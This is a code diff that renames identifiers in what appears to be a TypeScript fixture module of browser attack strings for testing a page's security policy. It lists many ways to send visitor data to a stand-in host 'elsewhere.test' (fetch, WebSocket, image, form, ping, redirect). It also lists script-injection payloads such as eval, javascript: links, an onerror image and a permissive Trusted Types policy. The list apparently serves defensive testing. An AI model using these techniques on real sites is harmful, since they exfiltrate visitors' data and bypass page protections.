@@ -7,11 +7,11 @@
 export type Attacks = Readonly<Record<string, string>>;
 export const HOST = 'elsewhere.test';
 /** Adds an element to the document, with changed properties. */
-export const add = (element: string, changes: string) =>
+export const addElement = (element: string, changes: string) =>
   `(() => { const it = Object.assign(document.createElement('${element}'), ${changes}); ` +
   'document.documentElement.append(it); return it; })()';
 /** Send visitors' data to another host. */
-export const SENDS: Attacks = {
+export const SENDING_ATTACKS: Attacks = {
   'asks another host by fetch': `fetch('https://h1.${HOST}/').catch(() => {})`,
   'asks another host where no answer is read': `fetch('https://h2.${HOST}/', {
     mode: 'no-cors',
@@ -26,14 +26,17 @@ export const SENDS: Attacks = {
   'asks another host by a WebSocket': `try { new WebSocket('wss://h5.${HOST}/'); } catch {}`,
   'asks another host by an EventSource': `try { new EventSource('https://h6.${HOST}/'); } catch {}`,
   'asks another host by a picture': `new Image().src = 'https://h7.${HOST}/?x'`,
-  'asks another host by a video': add('video', `{ src: 'https://h8.${HOST}/', preload: 'auto' }`),
-  'asks another host by a frame': add('iframe', `{ src: 'https://h9.${HOST}/' }`),
+  'asks another host by a video': addElement(
+    'video',
+    `{ src: 'https://h8.${HOST}/', preload: 'auto' }`,
+  ),
+  'asks another host by a frame': addElement('iframe', `{ src: 'https://h9.${HOST}/' }`),
   'asks another host by an object': `try {
-    ${add('object', `{ data: 'https://h10.${HOST}/' }`)};
+    ${addElement('object', `{ data: 'https://h10.${HOST}/' }`)};
   } catch {}`,
   'asks another host by a form':
-    add('form', `{ action: 'https://h11.${HOST}/', method: 'post' }`) + '.submit()',
-  'asks another host by a style sheet': add(
+    addElement('form', `{ action: 'https://h11.${HOST}/', method: 'post' }`) + '.submit()',
+  'asks another host by a style sheet': addElement(
     'link',
     `{ rel: 'stylesheet', href: 'https://h12.${HOST}/a.css' }`,
   ),
@@ -45,20 +48,26 @@ export const SENDS: Attacks = {
   'asks another host by a font': `const own = new FontFace('own', 'url(https://h15.${HOST}/)');
     document.fonts.add(own);
     document.fonts.load('1em own').catch(() => {})`,
-  'asks another host ahead of time': add(
+  'asks another host ahead of time': addElement(
     'link',
     `{ rel: 'prefetch', href: 'https://h16.${HOST}/' }`,
   ),
-  'looks another host up': add('link', `{ rel: 'dns-prefetch', href: 'https://h17.${HOST}/' }`),
-  'connects to another host': add('link', `{ rel: 'preconnect', href: 'https://h18.${HOST}/' }`),
+  'looks another host up': addElement(
+    'link',
+    `{ rel: 'dns-prefetch', href: 'https://h17.${HOST}/' }`,
+  ),
+  'connects to another host': addElement(
+    'link',
+    `{ rel: 'preconnect', href: 'https://h18.${HOST}/' }`,
+  ),
   'asks another host by a ping':
-    add('a', `{ href: '#', ping: 'https://h19.${HOST}/' }`) + '.click()',
+    addElement('a', `{ href: '#', ping: 'https://h19.${HOST}/' }`) + '.click()',
   'imports a module of another host': `const own = 'https://h20.${HOST}/a.js';
     import(own).catch(() => {})`,
   'loads a script of another host': `const own = trustedTypes.createPolicy('wp-upload', {
       createScriptURL: (url) => url,
     });
-    ${add(
+    ${addElement(
       'script',
       `{ src: own.createScriptURL('https://h21.${HOST}/a.js'), crossOrigin: 'anonymous',
         integrity: 'sha384-${'A'.repeat(64)}' }`,
@@ -67,7 +76,7 @@ export const SENDS: Attacks = {
     own.createDataChannel('x');
     globalThis.own = own`,
   'leads the visitor to another host': `location.href = 'https://h23.${HOST}/'`,
-  'leads the visitor to another host by markup': add(
+  'leads the visitor to another host by markup': addElement(
     'meta',
     `{ httpEquiv: 'refresh', content: '0;url=https://h24.${HOST}/' }`,
   ),
@@ -75,12 +84,12 @@ export const SENDS: Attacks = {
 };
 
 /** Run strings as scripts, against the policy of the page. */
-export const TEXTS: Attacks = {
+export const TEXT_ATTACKS: Attacks = {
   'evaluates a text': `try { eval('ran = 1'); } catch {}`,
   'makes a function of a text': `try { new Function('ran = 1')(); } catch {}`,
   'gives a timer a text': `try { setTimeout('ran = 1'); } catch {}`,
   'writes a script into the page': `try {
-    ${add('script', `{ textContent: 'ran = 1' }`)};
+    ${addElement('script', `{ textContent: 'ran = 1' }`)};
   } catch {}`,
   'writes a handler into the page': `try {
     document.body.setAttribute('onclick', 'ran = 1');
@@ -89,13 +98,13 @@ export const TEXTS: Attacks = {
     document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran = 1">');
   } catch {}`,
   'writes a document into a frame': `try {
-    ${add('iframe', `{ srcdoc: '<script>parent.ran = 1</script>' }`)};
+    ${addElement('iframe', `{ srcdoc: '<script>parent.ran = 1</script>' }`)};
   } catch {}`,
-  'follows a link that is a script': `${add('a', `{ href: 'javascript:void (ran = 1)' }`)}.click()`,
+  'follows a script link': `${addElement('a', `{ href: 'javascript:void (ran = 1)' }`)}.click()`,
   'makes a policy that lets everything in': `try {
     trustedTypes.createPolicy(['default'].join(), { createScript: (text) => text });
   } catch {}`,
-  'moves the base of all addresses': add('base', `{ href: 'https://${HOST}/' }`),
+  'moves the base of all addresses': addElement('base', `{ href: 'https://${HOST}/' }`),
   'takes the head away and evaluates a text': `try {
     document.head.querySelectorAll('meta').forEach((own) => own.remove());
     eval('ran = 1');
@@ -103,7 +112,7 @@ export const TEXTS: Attacks = {
 };
 
 /** Change globals that all parts of the page use. */
-export const CHANGES: Attacks = {
+export const CHANGING_ATTACKS: Attacks = {
   'takes the way to the server in the browser': `fetch = () => new Promise(() => {})`,
   'hides a built-in function of the window': `addEventListener = () => {}`,
   'hides the history of the window': `history.pushState = () => {}`,
